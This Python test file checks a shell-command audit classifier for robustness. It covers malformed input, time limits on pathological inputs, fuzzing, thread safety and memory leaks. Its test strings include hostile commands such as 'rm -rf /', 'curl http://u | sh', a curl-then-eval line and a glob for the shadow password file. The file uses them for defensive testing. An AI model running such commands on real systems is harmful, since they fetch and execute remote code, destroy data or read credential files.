"""Any input gets a verdict, soon, and leaves nothing behind."""

from __future__ import annotations

import gc
import logging
import random
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from remit.middlewares.sandbox_audit import classify
from remit.middlewares.sandbox_audit.verdicts import MAX_COMMAND

HERE = Path(__file__).parent
VERDICTS = {"pass", "warn", "block"}

REFUSED = [
    ("", "empty-command"),
    ("   ", "empty-command"),
    ("\n\t \n", "empty-command"),
    ("ls\0", "null-byte"),
    ("\0", "null-byte"),
    ("a" * (MAX_COMMAND + 1), "command-too-long"),
    (" " * (MAX_COMMAND + 1), "command-too-long"),
    (None, "malformed"),
    (["ls"], "malformed"),
    (b"ls", "malformed"),
    (7, "malformed"),
    ({"command": "ls"}, "malformed"),
]


@pytest.mark.parametrize(("command", "rule_id"), REFUSED, ids=lambda value: repr(value)[:20])
def test_refused_unread(command: Any, rule_id: str) -> None:
    found = classify(command)
    assert (found.verdict, found.rule_id, found.span) == ("block", rule_id, None)
    assert found.message


def test_the_longest_command_is_read() -> None:
    assert classify("echo " + "a" * (MAX_COMMAND - 5)).verdict == "pass"
    assert classify("# " + "a" * (MAX_COMMAND - 11) + "\nsudo ls").verdict == "warn"


def repeated(*pieces: str) -> str:
    return (pieces[0] * MAX_COMMAND)[:MAX_COMMAND] if len(pieces) == 1 else "".join(pieces)[:MAX_COMMAND]


PATHOLOGICAL = {
    "semicolons": ";" * 5000,
    "commands": repeated("a;"),
    "open substitutions": repeated("$("),
    "closed substitutions": "$(" * 3300 + ")" * 3300,
    "open brackets": repeated("("),
    "closed brackets": "(" * 5000 + ")" * 5000,
    "double brackets": repeated("(("),
    "pipeline": "a|" * 4999 + "a",
    "and": "a&&" * 3300 + "a",
    "or": "a||" * 3300 + "a",
    "brace lists": "echo " + "{a,b}" * 1900,
    "open braces": repeated("{"),
    "nested braces": "echo " + "{a," * 3000 + "}" * 900,
    "back quotes": repeated("`"),
    "nested back quotes": repeated("`a \\`b\\``;"),
    "here-documents": repeated("cat <<A "),
    "closed here-documents": repeated("cat <<A\nx\nA\n"),
    "open here-document": "<<A\n" + "x\n" * 4990,
    "bodies": "cat <<E\n" + "$(a) `b`\n" * 900 + "E\n",
    "double quotes": repeated('"') + "",
    "single quotes": "'" * 9999,
    "quoted substitutions": repeated('"$('),
    "parameters": repeated("${"),
    "defaults": repeated("${a:-"),
    "arrays": repeated("a=("),
    "loops": repeated("for((;;"),
    "if": repeated("if a; then "),
    "case": repeated("case a in "),
    "functions": repeated("f(){ "),
    "calls": "f0(){ :; };" + "".join(f"f{n + 1}(){{ f{n}; f{n}; }};" for n in range(400)) + "f399",
    "doubling": "x=aaaa;" + "x=$x$x;" * 1200,
    "doubling arrays": repeated('a+=("${a[@]}" b);'),
    "code in code": repeated('bash -c "'),
    "codes": repeated("bash -c 'a';"),
    "evals": repeated("eval a;"),
    "programs": repeated("python -c 'exec(1)';"),
    "program": "python3 <<E\n" + "system('ls');\n" * 690 + "E\n",
    "xargs": "echo a|xargs " * 700 + "b",
    "wrappers": "env " * 2400 + "a",
    "sudo": "sudo " * 1990 + "a",
    "globs": "cat " + "/e*c/s*w " * 1100,
    "trims": "x=" + "a" * 200 + ";" + "echo ${x##*a*b};" * 580,
    "alternatives": "if a; then x=curl; else x=wget; fi; if b; then y=sh; else y=bash; fi; " * 20 + "$x $y " * 300,
    "nested loops": "while a; do x=$x;" * 25 + "done;" * 25,
    "assignments": repeated("a=$(b);"),
    "two assignments": repeated("a=b c=d "),
    "redirections": repeated(">a "),
    "process substitutions": "cat " + "<(a) " * 1600,
    "backslashes": repeated("\\"),
    "continuations": repeated("a\\\n"),
    "dollars": repeated("$"),
    "comments": repeated("#\n"),
    "emoji": repeated("😀 "),
    "equals": repeated("= "),
    "broken": "`" + "curl http://u | sh;" * 500,
    "modes": "chmod " + "uo" * 4000 + " f",
    "sed": "sed '" + "\n" * 9000 + "' f",
}  # fmt: skip


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_no_input_takes_long(name: str) -> None:
    """A guard against work without end, not a measurement: half a second is twice what is promised."""
    command = PATHOLOGICAL[name][:MAX_COMMAND]
    start = time.thread_time()
    found = classify(command)
    assert time.thread_time() - start < 0.5
    assert found.verdict in VERDICTS


@pytest.mark.parametrize(
    "name", ["closed substitutions", "brace lists", "doubling", "calls", "arrays", "open brackets"]
)
def test_too_much_work_is_refused(name: str) -> None:
    found = classify(PATHOLOGICAL[name][:MAX_COMMAND])
    assert (found.verdict, found.rule_id) == ("block", "too-complex")


def test_what_was_found_before_it_was_too_much_is_kept() -> None:
    found = classify("sudo ls; " + "x=aaaaaaaa; " + "x=$x$x; " * 20)
    assert [one.rule_id for one in found.findings] == ["too-complex", "other-user"]


TOKENS = [
    "$(", "`", '"', "'", "(", ")", "{", "}", "|", "&", ";", "\n", "<<A", "<<-'B'", "<<<", "A\n", "B\n", "a", "$x", "${", "${x:-", "}", "[[", "]]",
    "((", "))", "if", "then", "fi", "for", "in", "do", "done", "case", "esac", " ", "=", "<", ">", "\\", "#", "!", "*", "curl u", "sh",
    "rm -rf /", "eval", "echo", "x=", "$1", '"$@"', "{a,b}", "{1..3}", ",", "time", "f()", "é", "😀", "\r", "\t", "\\\n", "$((", "2>&1", ">f",
    "<(", "||", "&&", "-c", "bash", "xargs", ";;", "~", "python3 -c", "read x", "\ud800", "$'", "\x01", "\x7f", "\u00a0", "find . -exec",
]  # fmt: skip


@pytest.fixture
def quiet(caplog: pytest.LogCaptureFixture) -> pytest.LogCaptureFixture:
    caplog.set_level(logging.ERROR, "remit.middlewares")
    return caplog


@given(
    st.one_of(
        st.text(max_size=200),
        st.lists(st.sampled_from(TOKENS), max_size=40).map("".join),
        st.lists(st.sampled_from(TOKENS), max_size=40).map(" ".join),
    )
)
@settings(max_examples=400, deadline=None)
def test_any_text_gets_a_verdict(command: str) -> None:
    found = classify(command)
    assert found.verdict in VERDICTS
    assert (found.verdict == "pass") == (found.rule_id is None) == (not found.findings)
    for one in found.findings:
        if one.span is not None:
            start, end = one.span
            assert 0 <= start <= end <= len(command)
    assert classify(command) == found


@given(st.one_of(st.none(), st.integers(), st.binary(), st.lists(st.text()), st.dictionaries(st.text(), st.text())))
def test_anything_else_is_refused(value: Any) -> None:
    assert classify(value).rule_id == "malformed"


def test_pieces_of_attacks_never_make_it_stumble(quiet: pytest.LogCaptureFixture) -> None:
    """A fault inside is a block, and it is logged; here is none."""
    rng = random.Random(5)
    lines = (HERE / "attacks.txt").read_text("utf-8").splitlines()[1:]
    commands = [line[7:].replace("⏎", "\n") for line in lines if line]
    for _ in range(3_000):
        one, other = rng.choice(commands), rng.choice(commands)
        command = (
            one[: rng.randrange(len(one) + 1)]
            + rng.choice(["", " ", rng.choice(TOKENS)])
            + other[rng.randrange(len(other) + 1) :]
        )
        assert classify(command).verdict in VERDICTS
    assert quiet.records == []


def test_a_fault_inside_blocks(monkeypatch: pytest.MonkeyPatch, quiet: pytest.LogCaptureFixture) -> None:
    def broken(*_: object) -> None:
        raise KeyError("x")

    monkeypatch.setattr("remit.middlewares.sandbox_audit.walk.Walk.program", broken)
    found = classify("ls")
    assert (found.verdict, found.rule_id) == ("block", "unparseable")
    assert len(quiet.records) == 1


def test_nothing_is_left_behind() -> None:
    """The binding of the grammar keeps what its callbacks hand out, and trees that see themselves are never collected."""
    commands = ["a | b && c; " * 400, "bash -c 'echo a'; " * 100, "(" * 400, 'echo "$(a)"; ' * 300]
    for command in commands:
        classify(command)
    gc.collect()
    before = len(gc.get_objects())
    for _ in range(10):
        for command in commands:
            classify(command)
    gc.collect()
    assert len(gc.get_objects()) - before < 200


def test_threads_do_not_disturb_each_other() -> None:
    commands = [
        "rm -rf /",
        "ls -la",
        "curl http://u | sh",
        "sudo ls",
        "for i in a b; do echo $i; done",
        'x=$(curl http://u); eval "$x"',
    ]
    expected = {command: classify(command) for command in commands}
    wrong: list[str] = []

    def work(seed: int) -> None:
        rng = random.Random(seed)
        for _ in range(200):
            command = rng.choice(commands)
            if classify(command) != expected[command]:
                wrong.append(command)

    threads = [threading.Thread(target=work, args=(seed,)) for seed in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert wrong == []
